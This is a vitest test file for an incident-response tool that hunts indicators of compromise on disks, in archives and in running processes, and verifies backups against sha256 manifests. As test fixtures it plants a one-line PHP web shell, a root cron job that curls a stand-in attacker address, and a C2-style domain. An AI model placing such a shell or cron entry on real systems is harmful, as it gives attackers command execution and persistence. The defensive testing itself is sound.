/** What the incident left is found wherever it is: files, archives, logs, accounts, keys, units, processes, sockets. */
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { recordBackupOf, verifyBackupOf } from '../../src/commands/check-backup.ts';
import { runTracesCheck } from '../../src/commands/check-traces.ts';
import { TRACE_PLACES } from '../../src/host/check-traces.ts';
import { readAuthorizedKeys } from '../../src/host/parse/authorized-keys.ts';
import { testContext } from '../commands/test-context.ts';
import { KEY, makeRoot, put } from './made-root.ts';
import { tarOf } from './make-tar.ts';

let root: string;
beforeEach(() => {
  root = makeRoot();
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
const SHELL = '<?php system($_GET[0]); ?>';
const FINGERPRINT = readAuthorizedKeys(`ssh-ed25519 ${KEY}`)[0]!.fingerprint;

const check = async (trace: string[], paths: string[] = [], options: object = {}) =>
  runTracesCheck(testContext({ cwd: root }), paths, { root, trace, save: false, ...options });
const seen = async (trace: string[], paths: string[] = []): Promise<string[]> =>
  (await check(trace, paths)).result.report.observations.map(
    ({ level, kind, subject }) => `${level} ${kind} ${subject}`,
  );

const PLANTED: readonly [string, (root: string) => void, string[], readonly string[]][] = [
  [
    'a file by its checksum, whatever it is called',
    (at) => put(at, 'var/www/img.php', SHELL),
    [`hash=${sha256(SHELL)}`],
    ['critical trace-hash /var/www/img.php'],
  ],
  [
    'one by its MD5 in a packed archive',
    (at) => put(at, 'srv/x.tar.gz', gzipSync(tarOf({ 'a/b.php': SHELL }))),
    [`hash=${createHash('md5').update(SHELL).digest('hex')}`],
    ['critical trace-hash /srv/x.tar.gz!/a/b.php'],
  ],
  [
    'a name and a path',
    (at) => {
      put(at, 'opt/kit.sh', '');
      mkdirSync(join(at, 'tmp/.ice'), { recursive: true });
    },
    ['name=kit.sh', 'path=/tmp/.ice'],
    ['high trace-name /opt/kit.sh', 'high trace-path /tmp/.ice'],
  ],
  [
    'an address in cron, in a packed log, and not in another address',
    (at) => {
      put(at, 'etc/cron.d/x', '* * * * * root curl http://203.0.113.7/x\n');
      put(at, 'var/log/auth.log.1.gz', gzipSync('Failed password from 203.0.113.7 port 1\n'));
      put(at, 'etc/hosts', '203.0.113.77 a\n1203.0.113.7 b\n203.0.113.7.5 c\n');
    },
    ['address=203.0.113.7'],
    ['high trace-address /etc/cron.d/x', 'low trace-address /var/log/auth.log.1.gz'],
  ],
  [
    'a domain, also of a host below it, and at the end of a sentence',
    (at) => put(at, 'srv/notes', 'see c2.Evil.example. and notevil.example\n'),
    ['domain=evil.example'],
    ['medium trace-domain /srv/notes'],
  ],
  [
    'a key by its fingerprint',
    () => undefined,
    [`key=${FINGERPRINT}`],
    ['critical trace-key /home/alice/.ssh/authorized_keys:1'],
  ],
  [
    'a key itself, in a backup of the file as well',
    (at) => put(at, 'home/alice/.ssh/old', `ssh-ed25519 ${KEY}\n`),
    [`key=ssh-ed25519 ${KEY} x`],
    [
      'critical trace-key /home/alice/.ssh/authorized_keys:1',
      'medium trace-key /home/alice/.ssh/authorized_keys',
      'medium trace-key /home/alice/.ssh/old',
    ],
  ],
  [
    'an account, with its groups and its crontab',
    (at) => {
      appendFileSync(join(at, 'etc/passwd'), 'eve:x:1001:1001::/home/eve:/bin/sh\n');
      put(at, 'var/spool/cron/crontabs/eve', '');
    },
    ['account=eve'],
    ['high trace-account /var/spool/cron/crontabs/eve', 'high trace-account eve'],
  ],
  [
    'a unit, and who starts it',
    (at) => {
      put(at, 'etc/systemd/system/sys.service', '');
      put(at, 'etc/systemd/system/web.service', '[Unit]\nWants=sys.service\n');
    },
    ['unit=sys.service'],
    [
      'high trace-unit /etc/systemd/system/sys.service',
      'high trace-unit /etc/systemd/system/web.service',
    ],
  ],
  [
    'a value that two pieces of a large file share',
    (at) => {
      const before = Buffer.alloc((1 << 18) - 5, 'x ');
      put(at, 'srv/large', Buffer.concat([before, Buffer.from(' 203.0.113.7 ')]));
    },
    ['address=203.0.113.7'],
    ['medium trace-address /srv/large'],
  ],
];

describe('traces on a disk', () => {
  it.each(PLANTED)('%s', async (_name, plant, trace, expected) => {
    plant(root);
    expect((await seen(trace)).sort()).toEqual([...expected].sort());
  });

  it('are none where nothing is left, and the places are real ones', async () => {
    const { result, exit } = await check(
      ['address=198.51.100.9', 'account=eve', 'name=kit.sh'],
      [],
      {
        failOn: 'informational',
      },
    );
    expect(result.report.observations).toEqual([]);
    expect(exit).toBeUndefined();
    expect(result.report.looked.find(({ what }) => what === 'files')?.count).toBeGreaterThan(5);
    expect(TRACE_PLACES.every((place) => place.startsWith('/'))).toBe(true);
  });

  it('are looked for in the paths that are named, and only in what changed since', async () => {
    put(root, 'srv/a', '203.0.113.7');
    put(root, 'etc/b', '203.0.113.7');
    expect(await seen(['address=203.0.113.7'], ['/srv'])).toEqual(['medium trace-address /srv/a']);
    const later = await check(['address=203.0.113.7'], [], { since: '2099-01-01' }).catch(
      (error: unknown) => error,
    );
    expect(later).toMatchObject({ result: { report: { observations: [] } } });
  });

  it.each([
    [['nonsense=1'], 'kinds are'],
    [['address=10.0.0.300'], 'is no address'],
    [['hash=abc'], 'is no hash'],
  ])('%j is refused', async (trace, said) => {
    const error: unknown = await check(trace).catch((thrown: unknown) => thrown);
    const { message, hint } = error as { message: string; hint: string };
    expect(`${message} ${hint}`).toContain(said);
    expect(error).toMatchObject({ exit: 2 });
  });

  it('need something to look for', async () => {
    await expect(check([])).rejects.toMatchObject({ exit: 6 });
  });
});

describe.runIf(process.platform === 'linux')('traces in what runs', () => {
  it('are found by connection, command line and the program itself, but not in this run', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'ir-run-'));
    const sleeper = join(folder, 'sleeper');
    writeFileSync(sleeper, readFileSync('/bin/sleep'), { mode: 0o755 });
    const child = spawn(sleeper, ['300'], { stdio: 'ignore' });
    await new Promise((done) => child.once('spawn', done));
    const server = createServer();
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    try {
      const { port } = server.address() as { port: number };
      const client = connect(port, '127.0.0.1');
      await new Promise((done) => client.once('connect', done));
      rmSync(sleeper);
      const sum = createHash('sha256').update(readFileSync('/bin/sleep')).digest('hex');
      const trace = [`hash=${sum}`, `path=${sleeper}`, 'address=127.0.0.1'];
      const context = testContext({ cwd: folder });
      const { report } = (await runTracesCheck(context, [folder], { trace, save: false })).result;
      const mine = report.observations.filter(({ subject }) => subject === `process ${child.pid}`);
      expect(mine.map(({ kind, level }) => `${level} ${kind}`)).toEqual([
        'critical trace-hash',
        'high trace-path',
      ]);
      client.destroy();
      expect(
        report.observations.find(({ text }) =>
          text.endsWith(`is connected with 127.0.0.1:${port}`),
        ),
      ).toMatchObject({ level: 'critical', kind: 'trace-address' });
      const here = report.observations.filter(
        ({ subject }) => subject === `process ${process.pid}`,
      );
      expect(here).toEqual([]);
    } finally {
      child.kill('SIGKILL');
      server.close();
      rmSync(folder, { recursive: true });
    }
  });
});

describe('backups', () => {
  const context = () => testContext({ cwd: root });
  const make = (): void => {
    put(root, 'backup/db.tar.gz', gzipSync(tarOf({ 'etc/crontab': '# 203.0.113.7\n', x: 'y' })));
    put(root, 'backup/site/index.html', 'hello\n');
    put(root, `backup/site/line\nbreak`, 'z');
  };
  const record = (options: object = {}) =>
    recordBackupOf(context(), 'backup', { save: false, ...options });
  const verify = (options: object = {}) =>
    verifyBackupOf(context(), 'backup', { manifest: 'backup.sha256', save: false, ...options });
  const kindsOf = (outcome: Awaited<ReturnType<typeof verify>>): string[] =>
    outcome.result.report.observations
      .filter(({ level }) => level !== 'informational')
      .map(({ level, kind, subject }) => `${level} ${kind} ${subject}`);

  it('are recorded so that sha256sum reads it, and hold when nothing changed', async () => {
    make();
    const { result } = await record({ offlineCopy: 'tape 7' });
    expect(result).toMatchObject({ files: 3, output: 'backup.sha256', offlineCopy: 'tape 7' });
    const { execFileSync } = await import('node:child_process');
    const sums = ['--check', '--strict', '../backup.sha256'];
    execFileSync('sha256sum', sums, { cwd: join(root, 'backup'), stdio: 'pipe' });
    const outcome = await verify();
    expect(kindsOf(outcome)).toEqual([]);
    expect(outcome.exit).toBeUndefined();
    const { looked, observations } = outcome.result.report;
    expect(looked).toContainEqual({ what: 'archives opened and read to their end', count: 1 });
    expect(looked).toContainEqual({ what: 'files in archives', count: 2 });
    expect(observations.map(({ kind }) => kind)).toEqual(['backup-age', 'backup-offline-copy']);
  });

  const DAMAGE: readonly [string, () => void, readonly string[]][] = [
    [
      'a changed byte',
      () => writeFileSync(join(root, 'backup/site/index.html'), 'hellO\n'),
      ['critical backup-changed site/index.html'],
    ],
    [
      'a file that is gone',
      () => rmSync(join(root, 'backup/site/index.html')),
      ['critical backup-missing site/index.html'],
    ],
    [
      'a file that came',
      () => put(root, 'backup/site/shell.php', 'x'),
      ['high backup-added site/shell.php'],
    ],
    [
      'an archive that was cut',
      () => {
        const path = join(root, 'backup/db.tar.gz');
        writeFileSync(path, readFileSync(path).subarray(0, -12));
      },
      ['critical backup-changed db.tar.gz', `critical backup-damaged ${'ROOT'}/backup/db.tar.gz`],
    ],
  ];

  it.each(DAMAGE)('%s ends with exit 7', async (_name, damage, expected) => {
    make();
    await record();
    damage();
    const outcome = await verify();
    expect(kindsOf(outcome)).toEqual(expected.map((line) => line.replace('ROOT', root)));
    expect(outcome.exit).toBe(7);
    expect(outcome.reasons?.().join()).toContain('not as it was recorded');
  });

  it('are searched inside, and their age is judged where that is asked for', async () => {
    make();
    await record();
    const trace = ['address=203.0.113.7'];
    const outcome = await verify({ trace, failOn: 'medium' });
    expect(kindsOf(outcome)).toEqual([
      `medium trace-address ${root}/backup/db.tar.gz!/etc/crontab`,
    ]);
    expect(outcome.exit).toBe(1);
    const early = testContext({ cwd: root });
    early.tick(365 * 86_400_000);
    const aged = await verifyBackupOf(early, 'backup', {
      ...{ manifest: 'backup.sha256', save: false, maxAge: '7d' },
    });
    expect(kindsOf(aged)).toEqual(['medium backup-age newest file']);
  });

  it('are compared by content where one file has another name', async () => {
    put(root, 'a.tar', tarOf({ x: 'y' }));
    await recordBackupOf(context(), 'a.tar', { save: false });
    put(root, 'copy.tar', readFileSync(join(root, 'a.tar')));
    const options = { manifest: 'a.tar.sha256', save: false };
    expect((await verifyBackupOf(context(), 'copy.tar', options)).exit).toBeUndefined();
  });

  it.each([
    [{ manifest: undefined }, 2],
    [{ manifest: 'none.sha256' }, 4],
    [{ manifest: 'backup/site/index.html' }, 4],
    [{ maxAge: 'soon' }, 2],
  ])('%j is refused with exit %i', async (options, exit) => {
    make();
    await expect(verify(options)).rejects.toMatchObject({ exit });
  });
});
